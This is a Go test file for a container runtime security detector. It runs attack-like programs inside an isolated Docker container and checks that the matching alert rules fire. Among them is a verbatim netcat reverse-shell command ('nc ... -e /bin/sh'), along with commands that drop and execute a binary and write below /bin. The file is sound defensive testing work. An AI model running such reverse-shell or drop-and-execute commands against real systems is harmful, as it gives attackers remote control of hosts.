package detector_test

import (
	"context"
	"fmt"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/docker/docker/api/types/container"
	"github.com/docker/docker/api/types/network"
	"github.com/docker/docker/client"

	"github.com/riposte-sec/riposte/detector"
	"github.com/riposte-sec/riposte/detector/resources"
	"github.com/riposte-sec/riposte/internal/testutil"
)

// runOnInternalNetwork starts a test container on a docker network the test
// creates (internal: nothing leaves it) and returns its id and address.
func runOnInternalNetwork(t *testing.T, cli *client.Client, name string) (id, ip string) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	netName := fmt.Sprintf("%s-net-%d", name, os.Getpid())
	_ = cli.NetworkRemove(ctx, netName)
	nw, err := cli.NetworkCreate(ctx, netName, network.CreateOptions{Internal: true})
	if err != nil {
		t.Fatalf("create network: %v", err)
	}
	t.Cleanup(func() {
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		_ = cli.ContainerRemove(ctx, name, container.RemoveOptions{Force: true})
		if err := cli.NetworkRemove(ctx, nw.ID); err != nil {
			t.Logf("remove network: %v", err)
		}
	})
	c, err := cli.ContainerCreate(ctx, &container.Config{Image: testutil.TestImage, Cmd: []string{"sleep", "3600"}},
		&container.HostConfig{NetworkMode: container.NetworkMode(netName)}, nil, nil, name)
	if err != nil {
		t.Fatalf("create container: %v", err)
	}
	if err := cli.ContainerStart(ctx, c.ID, container.StartOptions{}); err != nil {
		t.Fatalf("start container: %v", err)
	}
	info, err := cli.ContainerInspect(ctx, c.ID)
	if err != nil {
		t.Fatal(err)
	}
	for _, ep := range info.NetworkSettings.Networks {
		ip = ep.IPAddress
	}
	if ip == "" {
		t.Fatal("container has no address")
	}
	return c.ID, ip
}

// TestContainerScenarios drives real programs in a real container and
// expects the matching default rules to fire for it.
func TestContainerScenarios(t *testing.T) {
	cli := testutil.DockerClient(t)
	t.Parallel()
	_, got := startDetector(t, detector.Config{DisableResources: true}, cli)
	id, ip := runOnInternalNetwork(t, cli, testutil.UniqueName("det-scenarios"))

	// A listener on an undeclared port, and a netcat reverse shell to it
	// over the container's own address (not loopback: "outbound").
	dockerExec(t, cli, id, false, "sh", "-c", "nc -l -p 4444 >/dev/null 2>&1 </dev/null & sleep 0.3; echo exit | nc -w 2 "+ip+" 4444 -e /bin/sh; sleep 0.2")
	// Drop a binary into the container and run it; write below /bin.
	dockerExec(t, cli, id, false, "sh", "-c", "cp /bin/busybox /tmp/dropped && /tmp/dropped echo hi; touch /bin/evil")
	// A packet socket (arping opens AF_PACKET).
	dockerExec(t, cli, id, false, "arping", "-c", "1", "-w", "1", ip)

	want := []string{
		"Container listening on new port",
		"Outbound connection to non-allowed destination",
		"Redirect STDOUT/STDIN to network connection in container",
		"Reverse shell in container",
		"Drop and execute new binary in container",
		"Write below binary dir",
		"Packet socket created in container",
	}
	deadline := time.Now().Add(5 * time.Second)
	for {
		seen := map[string]string{}
		for _, a := range got.snapshot() {
			if a.Field("container.id") == id[:12] {
				seen[a.Rule] = a.Output
			}
		}
		var missing []string
		for _, r := range want {
			if _, ok := seen[r]; !ok {
				missing = append(missing, r)
			}
		}
		if len(missing) == 0 {
			for _, r := range want {
				t.Logf("%s: %s", r, strings.TrimSpace(seen[r]))
			}
			// busybox's sh may run the nc applet in a forked child without
			// execve, so the exec-based netcat rule is not required here
			// (the unit tests cover it); report whether it fired.
			_, nc := seen["Netcat remote code execution in container"]
			t.Logf("netcat -e rule fired: %v", nc)
			// One reverse shell, one direction: client (the container's
			// ephemeral port) -> server (the listener on 4444) in each of
			// its alerts, never the listener first.
			toListener := map[string]bool{}
			for _, a := range got.snapshot() {
				name := a.Field("fd.name")
				if a.Field("container.id") != id[:12] || !strings.Contains(name, ip+":4444") {
					continue
				}
				if !strings.HasSuffix(name, "->"+ip+":4444") {
					t.Errorf("%s: fd.name %q, want client->%s:4444", a.Rule, name, ip)
				}
				toListener[a.Rule] = true
			}
			for _, r := range []string{"Outbound connection to non-allowed destination", "Redirect STDOUT/STDIN to network connection in container", "Reverse shell in container"} {
				if !toListener[r] {
					t.Errorf("%s: no alert with the connection to %s:4444", r, ip)
				}
			}
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("missing alerts %q; got %v", missing, ruleNames(got.snapshot()))
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// TestMemoryGrowthRule: a container that grabs memory triggers the memory
// rule (threshold lowered for the test).
func TestMemoryGrowthRule(t *testing.T) {
	cli := testutil.DockerClient(t)
	t.Parallel()
	cfg := detector.Config{Resources: resources.Config{Interval: 250 * time.Millisecond, MemoryGrowthBytes: 32 << 20, MemoryWindow: 30 * time.Second}}
	_, got := startDetector(t, cfg, cli)
	// Four steps of 24 MiB, 2 s apart: on a loaded machine the sampler may
	// first see the container after a step, and still sees ≥ 48 MiB grow.
	grab := "$(head -c 25165824 /dev/zero | tr '\\0' a)"
	id := testutil.RunContainer(t, cli, fmt.Sprintf("det-mem-%d", os.Getpid()), nil, "sh", "-c",
		"sleep 1; a="+grab+"; sleep 2; b="+grab+"; sleep 2; c="+grab+"; sleep 2; d="+grab+"; sleep 3600")
	a := waitRule(t, got, id, "Container memory growth above threshold", 30*time.Second)
	if g, _ := a.OutputFields["container.memory.growth"].(int64); g < 32<<20 {
		t.Errorf("container.memory.growth = %v", a.OutputFields["container.memory.growth"])
	}
	// The growth is the shell's variable, or the buffer of head or tr
	// while a step runs.
	if n := a.Field("proc.name"); (n != "sh" && n != "tr" && n != "head") || !strings.HasPrefix(a.Field("container.memory.top"), n+"(") {
		t.Errorf("proc.name = %q, container.memory.top = %q, want sh, head or tr first", n, a.Field("container.memory.top"))
	}
}

// TestRelativePathsAfterChdir: a path relative to the working directory
// is made absolute with the directory the process was in at the event,
// followed through chdir, also when the process is gone by the time its
// event is evaluated (tar exits as soon as it has unpacked).
func TestRelativePathsAfterChdir(t *testing.T) {
	cli := testutil.DockerClient(t)
	t.Parallel()
	_, got := startDetector(t, detector.Config{DisableResources: true}, cli)
	id := testutil.RunContainer(t, cli, testutil.UniqueName("det-chdir"), nil)
	dockerExec(t, cli, id, false, "sh", "-c", "cd /tmp && echo x > relative-tool && tar -cf /tmp/pkg.tar relative-tool && tar -xf /tmp/pkg.tar -C /bin")
	dockerExec(t, cli, id, false, "sh", "-c", "cd /etc && echo x > relative.conf")
	for _, want := range []struct{ rule, file, proc string }{
		{"Write below binary dir", "/bin/relative-tool", "tar"},
		{"Write below etc", "/etc/relative.conf", "sh"},
	} {
		deadline := time.Now().Add(15 * time.Second)
		for {
			var found bool
			for _, a := range got.snapshot() {
				if a.Rule == want.rule && a.Field("container.id") == id[:12] && a.Field("fd.name") == want.file && a.Field("proc.name") == want.proc {
					found = true
				}
			}
			if found {
				break
			}
			if time.Now().After(deadline) {
				var names []string
				for _, a := range got.snapshot() {
					if a.Field("container.id") == id[:12] {
						names = append(names, a.Rule+" "+a.Field("fd.name"))
					}
				}
				t.Fatalf("no %q alert naming %s by %s; the container's alerts: %q", want.rule, want.file, want.proc, names)
			}
			time.Sleep(50 * time.Millisecond)
		}
	}
}
